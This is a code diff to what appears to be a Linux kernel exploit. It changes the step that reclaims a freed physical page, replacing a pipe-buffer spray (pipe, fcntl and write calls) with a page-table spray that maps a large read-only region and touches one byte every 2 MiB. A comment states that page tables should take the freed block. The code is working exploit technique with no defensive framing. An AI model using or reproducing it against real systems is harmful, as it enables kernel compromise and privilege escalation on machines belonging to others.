@@ -15,6 +15,8 @@ static bool control(void)
 }
 
 #define PAGES 700
+#define TABLES 1500ul
+#define TABLE_SHOWS (2ul << 20)
 
 static uint64_t frame_of(uint64_t root, volatile char *page)
 {
@@ -65,8 +67,10 @@ static bool fire(void)
 	volatile char *pages =
 		(volatile char *)call6(__NR_mmap, 0, PAGES * 4096, PROT_READ | PROT_WRITE,
 				       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+	volatile char *zeros =
+		(volatile char *)call6(__NR_mmap, 0, TABLES * TABLE_SHOWS, PROT_READ,
+				       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
 	uint64_t block;
-	int pipe[2];
 
 	for (unsigned long i = 0; i < PAGES; i++)
 		pages[i * 4096] = 1;
@@ -79,12 +83,10 @@ static bool fire(void)
 	}
 	if (peek8(kinds + block) != 0)
 		return false;
-	for (int i = 0; i < 400 && peek8(kinds + block) == 0; i++) {
+	/* Each page of zeros is the first in a page table: it is tables that take the block. */
+	for (unsigned long i = 0; i < TABLES && peek8(kinds + block) == 0; i++) {
 		offer(block);
-		if (call1(__NR_pipe, (long)pipe) != 0)
-			break;
-		call3(__NR_fcntl, pipe[1], 1031, 1 << 20);
-		call3(__NR_write, pipe[1], (long)pages, 4096);
+		(void)zeros[i * TABLE_SHOWS];
 	}
 	return peek8(kinds + block) == 1 || peek8(kinds + block) == 2;
 }
